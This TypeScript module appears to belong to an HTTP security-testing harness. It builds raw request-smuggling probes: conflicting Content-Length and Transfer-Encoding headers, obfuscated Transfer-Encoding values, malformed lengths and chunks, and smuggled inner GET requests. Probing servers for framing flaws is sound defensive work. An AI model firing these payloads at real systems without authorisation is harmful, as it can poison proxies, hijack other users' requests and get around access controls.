import type { Attack } from '../../engine/attack.ts';
import type { World } from '../../target/world.ts';
import { get, rawAttack, type RawAttack } from './raw-attack.ts';

/*
 * Where two readers of one message disagree about where it ends, the second one takes the rest for a
 * request of somebody else.
 */

const SMUGGLED = '/attack-smuggled';
const inner = (host: string): string => `GET ${SMUGGLED} HTTP/1.1\r\nHost: ${host}\r\n\r\n`;

function post(host: string, { tokenA, probePath }: World, headers: readonly string[], body: string): string {
  const lines = [
    `Host: ${host}`,
    `Authorization: Bearer ${tokenA}`,
    'Content-Type: application/json',
    ...headers,
  ];
  return `POST ${probePath} HTTP/1.1\r\n${lines.join('\r\n')}\r\n\r\n${body}`;
}

const FRAMING: readonly RawAttack[] = [
  {
    id: 'cl-te',
    name: 'Content-Length and Transfer-Encoding in one message.',
    bytes: (host, world) =>
      post(host, world, ['Content-Length: 6', 'Transfer-Encoding: chunked'], `0\r\n\r\n${inner(host)}`),
  },
  {
    id: 'te-cl',
    name: 'Transfer-Encoding and a Content-Length that ends earlier.',
    bytes: (host, world) =>
      post(
        host,
        world,
        ['Transfer-Encoding: chunked', 'Content-Length: 4'],
        `5c\r\n${inner(host)}\r\n0\r\n\r\n`,
      ),
  },
  ...[
    ['te-te', 'chunked\r\nTransfer-Encoding: x'],
    ['te-space', ' chunked'],
    ['te-tab', '\tchunked'],
    ['te-quoted', '"chunked"'],
    ['te-xchunked', 'xchunked'],
    ['te-list', 'identity, chunked'],
    ['te-reversed', 'chunked, identity'],
    ['te-case', 'cHuNkEd'],
    ['te-vertical-tab', '\u000Bchunked'],
    ['te-fold', '\r\n chunked'],
  ].map(([id = '', value = '']) => ({
    id,
    name: `A Transfer-Encoding that is written strangely (${JSON.stringify(value)}), beside a Content-Length.`,
    bytes: (host: string, world: World) =>
      post(host, world, ['Content-Length: 6', `Transfer-Encoding:${value}`], `0\r\n\r\n${inner(host)}`),
  })),
  {
    id: 'te-header-space',
    name: 'A space before the colon of Transfer-Encoding.',
    bytes: (host, world) =>
      post(host, world, ['Content-Length: 6', 'Transfer-Encoding : chunked'], `0\r\n\r\n${inner(host)}`),
  },
  {
    id: 'te-underscore',
    name: 'Transfer_Encoding in the place of Transfer-Encoding.',
    maySucceed: true,
    bytes: (host, world) =>
      post(host, world, ['Content-Length: 0', 'Transfer_Encoding: chunked'], inner(host)),
    wellFormed: 2,
  },
  {
    id: 'two-lengths',
    name: 'Two Content-Lengths that disagree.',
    bytes: (host, world) => post(host, world, ['Content-Length: 0', 'Content-Length: 60'], inner(host)),
  },
  {
    id: 'two-lengths-agree',
    name: 'Two Content-Lengths that agree.',
    bytes: (host, world) => post(host, world, ['Content-Length: 2', 'Content-Length: 2'], '{}'),
  },
  ...['+2', '-1', '0x2', '2, 2', '2 2', '1e1', '99999999999999999999', '', '２'].map((value, index) => ({
    id: `length-${index + 1}`,
    name: `A Content-Length of ${JSON.stringify(value)}.`,
    bytes: (host: string, world: World) =>
      post(host, world, [`Content-Length: ${value}`], `{}${inner(host)}`),
  })),
  ...[
    ['chunk-negative', '-1\r\n{}\r\n0\r\n\r\n'],
    ['chunk-hex-prefix', '0x2\r\n{}\r\n0\r\n\r\n'],
    ['chunk-huge', 'ffffffffffffffff1\r\n{}\r\n0\r\n\r\n'],
    ['chunk-no-size', '\r\n{}\r\n0\r\n\r\n'],
    ['chunk-bare-lf', '2\n{}\n0\n\n'],
    ['chunk-short', '1\r\n{}\r\n0\r\n\r\n'],
    ['chunk-long', '9\r\n{}\r\n0\r\n\r\n'],
    ['chunk-extension-lf', '2;a=\nb\r\n{}\r\n0\r\n\r\n'],
    ['chunk-cr-only', '2\r{}\r0\r\r'],
  ].map(([id = '', body = '']) => ({
    id,
    name: `A chunk that is cut wrongly (${JSON.stringify(body)}).`,
    bytes: (host: string, world: World) =>
      post(host, world, ['Transfer-Encoding: chunked'], `${body}${inner(host)}`),
  })),
  {
    id: 'chunk-trailer',
    name: 'A trailer that brings a credential.',
    bytes: (host, { tokenA, probePath }) =>
      `POST ${probePath} HTTP/1.1\r\nHost: ${host}\r\nTransfer-Encoding: chunked\r\nTrailer: Authorization\r\n\r\n0\r\nAuthorization: Bearer ${tokenA}\r\n\r\n`,
  },
  {
    id: 'get-with-body',
    name: 'A GET with a body that is a request.',
    maySucceed: true,
    wellFormed: 1,
    bytes: (host, world) => get(host, world, [`Content-Length: ${inner(host).length}`]) + inner(host),
  },
];

export const FRAMING_ATTACKS: readonly Attack[] = FRAMING.map((raw) =>
  rawAttack({ ...raw, id: `P4.6-smuggling-${raw.id}` }),
);
